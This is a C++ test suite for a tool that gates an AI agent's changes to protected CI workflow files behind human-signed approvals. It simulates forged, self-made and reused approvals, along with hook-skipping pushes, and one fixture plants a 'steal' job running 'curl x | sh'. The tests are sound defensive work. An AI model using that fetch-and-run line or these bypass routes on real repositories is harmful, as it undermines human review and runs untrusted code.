// [gates] approval = "signed", end to end: a change to a protected path
// passes only with an Agentops-Approval trailer that a person other than its
// author signed with a key the base side's .agentops/allowed_signers lists.
// Every layer judges it the same: the commit-msg hook, `agentops check
// --range`, pre-push and the server's pre-receive. Real git, real ssh-keygen
// ed25519 keys made in temporary directories (never ~/.ssh).
#include <gtest/gtest.h>

#include <string>

#include "git_sandbox.h"

namespace agentops {
namespace {

using testing::bin;
using testing::CommandResult;
using testing::GitSandbox;
using testing::quote;

constexpr const char* kPolicy =
    "version = 1\n"
    "[paths]\nprotected = [\".github/workflows/**\"]\n"
    "[gates]\napproval = \"signed\"\n";
constexpr const char* kWorkflow = ".github/workflows/ci.yml";

std::string without_newline(std::string text) {
  while (!text.empty() && text.back() == '\n') text.pop_back();
  return text;
}

class SignedApproval : public ::testing::Test {
 protected:
  void SetUp() override {
    remote.run("git init -q --bare -b main .");
    client.git("remote add origin " + quote(remote.root()));
    // The agent makes the changes: it is their author and committer.
    client.git("config user.name Agent");
    client.git("config user.email agent@example.com");
    bob_key = make_key("bob");
    mallory_key = make_key("mallory");
    carol_key = make_key("carol");
  }

  std::string make_key(const std::string& name) const {
    const std::string path = keys.path(name);
    const CommandResult made = keys.run("ssh-keygen -t ed25519 -N '' -C " + name + " -f " + quote(path) + " -q");
    EXPECT_EQ(made.exit_code, 0) << made.err;
    return path;
  }
  std::string public_key(const std::string& key) const { return without_newline(keys.run("cat " + quote(key + ".pub")).out); }
  std::string fingerprint(const std::string& key) const {
    return without_newline(keys.run("ssh-keygen -lf " + quote(key + ".pub") + " | cut -d' ' -f2").out);
  }
  std::string signer_line(const std::string& email, const std::string& key) const {
    return email + " namespaces=\"agentops-approval@v1,git\" " + public_key(key) + "\n";
  }

  // The base side: the policy and bob as the reviewer, pushed before any hook exists.
  void publish_base() {
    client.write(".agentops/allowed_signers", signer_line("bob@example.com", bob_key));
    client.write(".agentops/policy.toml", kPolicy);
    client.write(kWorkflow, "on: push\n");
    client.git("add .agentops .github");
    client.git("commit -q --no-verify -m 'chore: policy'");
    client.git("push -q origin main");
    const CommandResult server = remote.run(quote(bin("agentops-install")) + " --repo .");
    ASSERT_EQ(server.exit_code, 0) << server.err;
    client.install_hooks();
  }

  // The trailer line `agentops approve` prints, e.g. for "--staged" or "HEAD".
  std::string approve(const std::string& what, const std::string& key, const std::string& principal) const {
    const CommandResult approved = client.run(quote(bin("agentops")) + " approve " + what + " --key " + quote(key) +
                                              " --principal " + quote(principal));
    EXPECT_EQ(approved.exit_code, 0) << approved.err;
    return without_newline(approved.out);
  }

  // ci.yml changed to `content` and staged.
  void stage_workflow(const std::string& content) const {
    client.write(kWorkflow, content);
    client.git("add " + quote(kWorkflow));
  }
  // Committed past the local hooks (what an agent can always do), with `trailer` when not empty.
  void commit_skipping_hooks(const std::string& trailer) const {
    client.git("commit -q --no-verify -m 'ci: run the tests'" + (trailer.empty() ? "" : " --trailer " + quote(trailer)));
  }

  CommandResult check_range(const std::string& format = "") const {
    CommandResult result = client.run(quote(bin("agentops")) + " check --range origin/main..main" +
                                      (format.empty() ? "" : " --format " + format));
    if (format.empty()) result.err = result.out + result.err;  // the text report goes to stdout
    return result;
  }
  std::string remote_main() const { return remote.run("git rev-parse main").out; }

  // check --range, pre-push and pre-receive each refuse, naming
  // gate.signed-approval and `why`; the JSON says the approval's `state`.
  void expect_refused_everywhere(const std::string& state, const std::string& why) const {
    const CommandResult range = check_range();
    EXPECT_EQ(range.exit_code, 1) << range.err;
    EXPECT_NE(range.err.find("gate.signed-approval"), std::string::npos) << range.err;
    EXPECT_NE(range.err.find(why), std::string::npos) << range.err;
    const CommandResult json = check_range("json");
    EXPECT_EQ(json.exit_code, 1) << json.out << json.err;
    EXPECT_NE(json.out.find("\"approval\":{\"state\":\"" + state + "\""), std::string::npos) << json.out;
    const std::string before = remote_main();
    const CommandResult pre_push = client.run("git push origin main");
    EXPECT_NE(pre_push.exit_code, 0);
    EXPECT_NE(pre_push.err.find("gate.signed-approval"), std::string::npos) << pre_push.err;
    EXPECT_NE(pre_push.err.find(why), std::string::npos) << pre_push.err;
    EXPECT_EQ(pre_push.err.find("pre-receive hook declined"), std::string::npos) << "refused before the server";
    const CommandResult pre_receive = client.run("git push --no-verify origin main");
    EXPECT_NE(pre_receive.exit_code, 0);
    EXPECT_NE(pre_receive.err.find("remote: "), std::string::npos) << pre_receive.err;
    EXPECT_NE(pre_receive.err.find("gate.signed-approval"), std::string::npos) << pre_receive.err;
    EXPECT_NE(pre_receive.err.find(why), std::string::npos) << pre_receive.err;
    EXPECT_NE(pre_receive.err.find("pre-receive hook declined"), std::string::npos) << pre_receive.err;
    EXPECT_EQ(remote_main(), before);
  }
  // check --range passes, and a push through both pre-push and pre-receive lands.
  void expect_passes_everywhere() const {
    const CommandResult range = check_range();
    EXPECT_EQ(range.exit_code, 0) << range.err;
    const CommandResult push = client.run("git push origin main");
    EXPECT_EQ(push.exit_code, 0) << push.err;
    EXPECT_EQ(remote_main(), client.git("rev-parse main"));
  }

  GitSandbox keys{false};
  GitSandbox remote{false};
  GitSandbox client;
  std::string bob_key, mallory_key, carol_key;
};

TEST_F(SignedApproval, ATypedHumanApprovedByTrailerDoesNotCountAtAnyLayer) {
  publish_base();
  stage_workflow("on: [push, pull_request]\n");
  commit_skipping_hooks("Human-Approved-by: Bob <bob@example.com>");
  expect_refused_everywhere("typed", "the typed Human-Approved-by trailer does not count");
}

TEST_F(SignedApproval, RefusesAnApprovalSignedWithAKeyTheBaseDoesNotList) {
  publish_base();
  stage_workflow("on: [push, pull_request]\n");
  commit_skipping_hooks(approve("--staged", mallory_key, "bob@example.com"));
  expect_refused_everywhere("unknown-key", fingerprint(mallory_key));
}

TEST_F(SignedApproval, PassesAnApprovalByTheAllowedReviewerAtEveryLayer) {
  publish_base();
  stage_workflow("on: [push, pull_request]\n");
  commit_skipping_hooks(approve("--staged", bob_key, "bob@example.com"));
  expect_passes_everywhere();
}

TEST_F(SignedApproval, CommitMsgHookAcceptsTheCommitWithTheReviewersTrailerAndRefusesItWithout) {
  publish_base();
  stage_workflow("on: [push, pull_request]\n");
  const CommandResult unapproved = client.run("git commit -m 'ci: run the tests'");
  EXPECT_NE(unapproved.exit_code, 0) << unapproved.err;
  EXPECT_NE(unapproved.err.find("gate"), std::string::npos) << unapproved.err;
  EXPECT_NE(unapproved.err.find("agentops approve"), std::string::npos) << unapproved.err;
  EXPECT_EQ(client.git("rev-parse HEAD"), client.git("rev-parse origin/main")) << "no commit was made";

  const CommandResult approved = client.run("git commit --trailer \"$(" + quote(bin("agentops")) +
                                            " approve --staged --key " + quote(bob_key) +
                                            " --principal bob@example.com)\" -m 'ci: run the tests'");
  ASSERT_EQ(approved.exit_code, 0) << approved.err;
  EXPECT_NE(client.git("log -1 --format=%B").find("Agentops-Approval: bob@example.com "), std::string::npos);
  expect_passes_everywhere();
}

TEST_F(SignedApproval, RefusesTheSameSignatureOnOtherContent) {
  publish_base();
  stage_workflow("on: [push, pull_request]\n");
  const std::string trailer = approve("--staged", bob_key, "bob@example.com");
  // The approved content is replaced before the commit; the trailer is copied over.
  stage_workflow("on: push\njobs: {steal: {runs-on: ubuntu-latest, steps: [{run: 'curl x | sh'}]}}\n");
  commit_skipping_hooks(trailer);
  expect_refused_everywhere("other-content", "covers other content");
}

TEST_F(SignedApproval, RefusesAnApprovalByTheChangesOwnAuthor) {
  publish_base();
  client.git("config user.name Bob");
  client.git("config user.email bob@example.com");
  stage_workflow("on: [push, pull_request]\n");
  commit_skipping_hooks(approve("--staged", bob_key, "bob@example.com"));
  expect_refused_everywhere("self-approval", "own author");
}

TEST_F(SignedApproval, RefusesAnApprovalByTheChangesOwnCommitter) {
  publish_base();
  stage_workflow("on: [push, pull_request]\n");
  const std::string trailer = approve("--staged", bob_key, "bob@example.com");
  client.run("GIT_COMMITTER_NAME=Bob GIT_COMMITTER_EMAIL=bob@example.com git commit -q --no-verify -m 'ci: run the tests' "
             "--trailer " + quote(trailer));
  ASSERT_EQ(client.git("log -1 --format=%ae/%ce"), "agent@example.com/bob@example.com\n");
  expect_refused_everywhere("self-approval", "own committer");
}

TEST_F(SignedApproval, AKeyAddedToAllowedSignersInTheSamePushDoesNotCount) {
  publish_base();
  // The push lists carol as a signer, and carol approves the workflow change.
  client.write(".agentops/allowed_signers",
               signer_line("bob@example.com", bob_key) + signer_line("carol@example.com", carol_key));
  client.git("add .agentops/allowed_signers");
  stage_workflow("on: [push, pull_request]\n");
  commit_skipping_hooks(approve("--staged", carol_key, "carol@example.com"));
  expect_refused_everywhere("unknown-key", fingerprint(carol_key));
}

TEST_F(SignedApproval, ASignerAddedByAnEarlierCommitOfTheSamePushDoesNotCount) {
  publish_base();
  client.write(".agentops/allowed_signers",
               signer_line("bob@example.com", bob_key) + signer_line("carol@example.com", carol_key));
  client.git("add .agentops/allowed_signers");
  commit_skipping_hooks("");
  stage_workflow("on: [push, pull_request]\n");
  commit_skipping_hooks(approve("--staged", carol_key, "carol@example.com"));
  expect_refused_everywhere("unknown-key", fingerprint(carol_key));
}

TEST_F(SignedApproval, CommitMsgHookRefusesATypedTrailerAndAnUnlistedKey) {
  publish_base();
  stage_workflow("on: [push, pull_request]\n");
  const CommandResult typed =
      client.run("git commit -m 'ci: run the tests' --trailer 'Human-Approved-by: Bob <bob@example.com>'");
  EXPECT_NE(typed.exit_code, 0) << typed.err;
  EXPECT_NE(typed.err.find("gate.signed-approval"), std::string::npos) << typed.err;
  const CommandResult mallory = client.run("git commit --trailer \"$(" + quote(bin("agentops")) +
                                           " approve --staged --key " + quote(mallory_key) +
                                           " --principal bob@example.com)\" -m 'ci: run the tests'");
  EXPECT_NE(mallory.exit_code, 0) << mallory.err;
  EXPECT_NE(mallory.err.find(fingerprint(mallory_key)), std::string::npos) << mallory.err;
  EXPECT_EQ(client.git("rev-parse HEAD"), client.git("rev-parse origin/main")) << "no commit was made";
}

TEST_F(SignedApproval, JsonAndSarifCarryTheApprovalRecord) {
  publish_base();
  stage_workflow("on: [push, pull_request]\n");
  commit_skipping_hooks(approve("--staged", bob_key, "bob@example.com"));
  const std::string verified = "\"approval\":{\"state\":\"verified\",\"principal\":\"bob@example.com\",\"key\":\"" +
                               fingerprint(bob_key) + "\"}";
  ASSERT_TRUE(fingerprint(bob_key).starts_with("SHA256:")) << fingerprint(bob_key);
  const CommandResult json = check_range("json");
  EXPECT_EQ(json.exit_code, 0) << json.out << json.err;
  EXPECT_NE(json.out.find("\"rule\":\"path.protected\""), std::string::npos) << json.out;
  EXPECT_NE(json.out.find(verified), std::string::npos) << json.out;
  const CommandResult sarif = check_range("sarif");
  EXPECT_EQ(sarif.exit_code, 0) << sarif.out << sarif.err;
  const size_t properties = sarif.out.find("\"properties\":{\"severity\":\"gate\"");
  ASSERT_NE(properties, std::string::npos) << sarif.out;
  EXPECT_NE(sarif.out.find(verified, properties), std::string::npos) << sarif.out;

  // A refusal: the state and the reason.
  client.git("reset -q --hard origin/main");
  stage_workflow("on: [push, pull_request]\n");
  commit_skipping_hooks(approve("--staged", mallory_key, "bob@example.com"));
  const std::string refused = "\"approval\":{\"state\":\"unknown-key\",\"principal\":\"bob@example.com\",\"key\":\"" +
                              fingerprint(mallory_key) + "\",\"reason\":\"the approval by bob@example.com is signed";
  const CommandResult refused_json = check_range("json");
  EXPECT_EQ(refused_json.exit_code, 1) << refused_json.out << refused_json.err;
  EXPECT_NE(refused_json.out.find(refused), std::string::npos) << refused_json.out;
  const CommandResult refused_sarif = check_range("sarif");
  EXPECT_EQ(refused_sarif.exit_code, 1) << refused_sarif.out << refused_sarif.err;
  EXPECT_NE(refused_sarif.out.find("\"properties\":{\"severity\":\"gate\"," + refused), std::string::npos)
      << refused_sarif.out;
}

TEST_F(SignedApproval, ExplainNamesTheSignedApprovalRule) {
  const CommandResult explained = client.run(quote(bin("agentops")) + " explain gate.signed-approval");
  EXPECT_EQ(explained.exit_code, 0) << explained.err;
  EXPECT_NE((explained.out + explained.err).find("gate.signed-approval"), std::string::npos) << explained.out;
  EXPECT_NE((explained.out + explained.err).find("agentops approve"), std::string::npos) << explained.out;
}

TEST_F(SignedApproval, AnAmendThatAddsTheReviewersApprovalKeepsItValidAtPrePush) {
  publish_base();
  stage_workflow("on: [push, pull_request]\n");
  commit_skipping_hooks("");
  ASSERT_EQ(check_range().exit_code, 1) << "gated, and nobody approved it yet";
  // Bob approves the commit after the fact; the agent stays its committer.
  const CommandResult amended = client.run("git commit --amend --no-edit --trailer \"$(" + quote(bin("agentops")) +
                                           " approve HEAD --key " + quote(bob_key) +
                                           " --principal bob@example.com)\"");
  ASSERT_EQ(amended.exit_code, 0) << amended.err;
  EXPECT_EQ(client.git("log -1 --format=%ce"), "agent@example.com\n");
  expect_passes_everywhere();
}

}  // namespace
}  // namespace agentops
